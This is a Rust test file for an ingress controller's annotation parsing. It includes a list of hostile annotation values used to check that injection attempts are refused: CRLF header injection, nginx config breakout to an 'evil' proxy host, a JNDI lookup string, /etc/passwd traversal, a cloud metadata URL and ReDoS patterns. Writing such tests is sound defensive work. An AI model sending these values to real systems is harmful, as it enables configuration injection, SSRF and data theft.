//! Tests of annotations: hostile values, and properties of the parsers.

use std::collections::BTreeMap;

use proptest::prelude::*;

use super::*;

fn read_one(name: &str, value: &str) -> Annotations {
    read(&BTreeMap::from([(format!("{PREFIX}{name}"), value.to_owned())]))
}

/// Values with which clients have broken out of configurations, headers and paths.
const HOSTILE: &[&str] = &[
    "",
    " ",
    "a\nb",
    "a\r\nX-Evil: 1",
    "/;}\nlocation /evil { proxy_pass http://evil; }",
    "/a\"; return 200",
    "a; lua_code_cache off",
    "$http_host; evil",
    "${jndi:ldap://evil}",
    "../../etc/passwd",
    "http://169.254.169.254/latest/meta-data\u{0}",
    "https://evil.example/?a=$arg_x",
    "-1",
    "18446744073709551616",
    "1e9",
    "99999999999999999999g",
    "10.0.0.0/33",
    "0.0.0.0/0;deny all",
    "((((((((((a*)*)*)*)*)*)*)*)*)*",
    "(a{1000}){1000}",
    "\u{202e}evil",
    "{host}",
    "{url}",
];

#[test]
fn hostile_values_are_refused_or_harmless() {
    let endless = "a".repeat(MAX_VALUE + 1);
    for annotation in TABLE {
        for value in HOSTILE.iter().copied().chain([endless.as_str()]) {
            let made = options(read_one(annotation.name, value), "default");
            let policy = serde_json::to_string(&made.policy).expect("a policy encodes");
            assert!(!policy.contains("\\n") && !policy.contains("\\r") && !policy.contains("\\u0000"), "{policy}");
            assert!(!policy.contains("evil\""), "{}: {policy}", annotation.name);
            let guards = matches!(annotation.use_, Use::Guards(_));
            let is_parsed = value::parse(annotation.kind, value).is_ok();
            assert!(!guards || is_parsed || made.is_closed(), "{} {value:?} protects no more", annotation.name);
        }
    }
}

#[test]
fn text_of_configurations_is_never_read() {
    let refused: Vec<&Annotation> = TABLE.iter().filter(|annotation| annotation.use_ == Use::Refused).collect();
    assert!(refused.len() >= 6);
    for annotation in refused {
        let read = read_one(annotation.name, "more_set_headers 'X: 1';");
        assert!(read.values.is_empty());
        assert_eq!(read.problems.len(), 1, "{}", annotation.name);
    }
    for annotation in TABLE.iter().filter(|annotation| annotation.name.ends_with("-snippet")) {
        assert_eq!(annotation.use_, Use::Refused, "{}", annotation.name);
    }
}

#[test]
fn names_are_known_once() {
    for (number, annotation) in TABLE.iter().enumerate() {
        let twin = TABLE.iter().skip(number + 1).find(|other| other.name == annotation.name);
        assert!(twin.is_none(), "{}", annotation.name);
    }
    assert!(TABLE.len() > 100);
}

#[test]
fn values_have_their_types() {
    use value::{Kind, Value, parse};
    let number = |number: u64| Ok(Value::Number(number));
    let list = |entries: &[&str]| Ok(Value::List(entries.iter().map(|one| (*one).to_owned()).collect()));
    assert_eq!(parse(Kind::Size, "8m"), number(8 << 20));
    assert_eq!(parse(Kind::Size, "0"), number(0));
    assert_eq!(parse(Kind::Size, "1G"), number(1 << 30));
    assert_eq!(parse(Kind::Networks, "10.0.0.0/8, ::1"), list(&["10.0.0.0/8", "::1"]));
    assert_eq!(parse(Kind::Origins, "https://*.a.test:8443, *"), list(&["https://*.a.test:8443", "*"]));
    assert_eq!(parse(Kind::Statuses, "404, 503"), Ok(Value::Statuses(vec![404, 503])));
    for (kind, invalid) in [
        (Kind::Bool, "yes"),
        (Kind::Size, "8mb"),
        (Kind::Networks, "a"),
        (Kind::Networks, ","),
        (Kind::Host, "*a.test"),
        (Kind::Host, "A.test"),
        (Kind::Path, "a"),
        (Kind::Path, "/$1"),
        (Kind::Target, "/$a"),
        (Kind::Header, "a b"),
        (Kind::Methods, "GET;"),
        (Kind::Origins, "https://a.test/path"),
        (Kind::Origins, "javascript://a"),
        (Kind::Statuses, "200"),
        (Kind::Text, "a\"b"),
        (Kind::Object, "a/b/c"),
        (Kind::Object, "../b"),
        (Kind::Variable, "$a b"),
        (Kind::Variable, "$a$b"),
    ] {
        assert!(parse(kind, invalid).is_err(), "{kind:?} {invalid}");
    }
}

#[test]
fn a_warning_names_the_annotation() {
    let ingress = |class: &str| {
        serde_json::json!({
            "metadata": {
                "namespace": "default",
                "annotations": {
                    format!("{PREFIX}server-snippet"): "evil",
                    format!("{PREFIX}no-such"): "1",
                    format!("{PREFIX}limit-rps"): "many",
                    "example.com/other": "1",
                },
            },
            "spec": {"ingressClassName": class},
        })
    };
    let warned = warnings(&ingress("corten"), "corten");
    assert_eq!(
        warned,
        [
            "annotation nginx.ingress.kubernetes.io/limit-rps: the value is no number from 1 to 1000000; the Ingress \
             answers with 503 until it is valid",
            "annotation nginx.ingress.kubernetes.io/no-such: is not known",
            "annotation nginx.ingress.kubernetes.io/server-snippet: text of a configuration is never used",
        ]
    );
    assert!(warnings(&ingress("nginx"), "corten").is_empty(), "an Ingress of another controller");
}

/// Returns the manual's table of annotations.
fn manual() -> String {
    let mut lines = vec!["| annotation | value | effect |".to_owned(), "|---|---|---|".to_owned()];
    for annotation in TABLE {
        let (kind, effect) = match annotation.use_ {
            Use::Sets(what) => (annotation.kind.describe(), what.to_owned()),
            Use::Guards(what) => (annotation.kind.describe(), format!("{what} (closes if invalid)")),
            Use::NoEffect(why) => (String::new(), format!("no effect: {why}")),
            Use::Unsupported(why) => (String::new(), format!("not supported: {why}")),
            Use::Refused => (String::new(), "never used: its value is text of a configuration".to_owned()),
        };
        lines.push(format!("| `{}` | {kind} | {effect} |", annotation.name));
    }
    lines.join("\n")
}

#[test]
fn the_manual_has_the_table() {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/ingress.md");
    let page = std::fs::read_to_string(&path).expect("the page");
    let (head, rest) = page.split_once("<!-- annotations -->\n").expect("the beginning of the table");
    let (_, tail) = rest.split_once("<!-- end -->").expect("the end of the table");
    let wanted = format!("{head}<!-- annotations -->\n{}\n<!-- end -->{tail}", manual());
    if std::env::var_os("UPDATE_EXPECT").is_some() {
        std::fs::write(&path, &wanted).expect("the page is written");
    } else {
        assert_eq!(page, wanted, "UPDATE_EXPECT=1 writes the table");
    }
}

proptest! {
    #[test]
    fn no_value_panics_or_breaks_a_line(number in 0..TABLE.len(), value in "\\PC{0,64}|[ -~\\n\\r\\t$]{0,64}") {
        let annotation = TABLE.get(number).expect("an annotation");
        let made = options(read_one(annotation.name, &value), "default");
        let policy = serde_json::to_string(&made.policy).expect("a policy encodes");
        prop_assert!(!policy.contains("\\n") && !policy.contains("\\r"));
    }

    #[test]
    fn sizes_and_numbers_are_bounded(value in "[0-9]{0,25}[kKmMgG]?") {
        if let Ok(value::Value::Number(size)) = value::parse(Kind::Size, &value) {
            prop_assert!(u128::from(size) <= u128::from(u64::MAX));
        }
    }
}
